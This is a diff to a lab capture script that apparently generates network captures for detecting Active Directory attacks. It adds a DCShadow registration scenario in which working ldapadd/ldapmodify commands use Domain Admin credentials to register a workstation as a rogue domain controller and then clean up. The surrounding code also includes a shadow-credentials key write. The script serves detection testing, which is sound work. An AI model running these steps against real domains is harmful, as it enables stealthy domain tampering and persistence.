@@ -6,7 +6,7 @@
 #             netsync smb_ntds_exfil benign_sysvol_read ldap_attribute_recon golden_ticket_rc4 golden_ticket_kvno \
 #             dfs_coerce efs_coerce benign_dfs_query cldap_user_enum benign_dc_locator \
 #             ntlm_relay_drop_mic ntlm_relay_dc_account dnshostname_spoofing benign_computer_rename \
-#             adfs_dkm_read benign_adfs_service_read shadow_credentials" \
+#             adfs_dkm_read benign_adfs_service_read shadow_credentials dcshadow_registration" \
 #        ../shared/lab/make-captures.sh run testdata/lab-extra
 #   sudo ../shared/lab/make-captures.sh down
 # Sourced by the lab script after its own definitions: it uses the lab's framework (cap_begin,
@@ -597,5 +597,26 @@ sc_shadow_credentials() {
   printf 'dn: %s\nchangetype: modify\nadd: msDS-KeyCredentialLink\nmsDS-KeyCredentialLink: B:%d:%s:%s\n' "$dn" "${#blob}" "$blob" "$dn" > "$WORK/tmp/shadow.ldif"
   on atk -- ldapmodify -x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS" -f "$WORK/tmp/shadow.ldif"
   expect 'ldap.protocolOp==6'
+  cap_end
+}
+
+SCEN_LIST="$SCEN_LIST dcshadow_registration"
+
+sc_dcshadow_registration() {
+  cap_begin dcshadow_registration attack T1207 "$ATK_IP" "WS01 (registered as a DC)" \
+    "DCShadow registration, the first half of mimikatz lsadump::dcshadow, in the clear: with a Domain Admin's credentials ($DA_USER), a server object for the workstation WS01 is added under the site's Servers container and the replication SPNs (E3514235-4B06-11D1-AB04-00C04FC2DCD2/… and GC/…) are added to its computer account, over LDAP simple binds (ldapadd, ldapmodify); then both are removed again, as mimikatz does."
+  local site="CN=Default-First-Site-Name,CN=Sites,CN=Configuration,$BASEDN" guid
+  guid=$(cat /proc/sys/kernel/random/uuid)
+  printf 'dn: CN=WS01,CN=Servers,%s\nobjectClass: server\ndNSHostName: ws01.%s\nserverReference: CN=WS01,CN=Computers,%s\n' "$site" "$DNSDOM" "$BASEDN" > "$WORK/tmp/dcshadow-add.ldif"
+  printf 'dn: CN=WS01,CN=Computers,%s\nchangetype: modify\nadd: servicePrincipalName\nservicePrincipalName: E3514235-4B06-11D1-AB04-00C04FC2DCD2/%s/%s\nservicePrincipalName: GC/ws01.%s/%s\n' \
+    "$BASEDN" "$guid" "$DNSDOM" "$DNSDOM" "$DNSDOM" > "$WORK/tmp/dcshadow-spn.ldif"
+  local L=(-x -H "ldap://$DC_IP" -D "$DA_USER@$DNSDOM" -w "$DA_PASS")
+  on atk -- ldapadd "${L[@]}" -f "$WORK/tmp/dcshadow-add.ldif"
+  on atk -- ldapmodify "${L[@]}" -f "$WORK/tmp/dcshadow-spn.ldif"
+  on atk -- ldapdelete "${L[@]}" "CN=WS01,CN=Servers,$site"
+  sed -e 's/^add: servicePrincipalName/delete: servicePrincipalName/' "$WORK/tmp/dcshadow-spn.ldif" > "$WORK/tmp/dcshadow-unspn.ldif"
+  on atk -- ldapmodify "${L[@]}" -f "$WORK/tmp/dcshadow-unspn.ldif"
+  expect 'ldap.protocolOp==8'
+  expect 'ldap.protocolOp==6' 2
   cap_end
 }
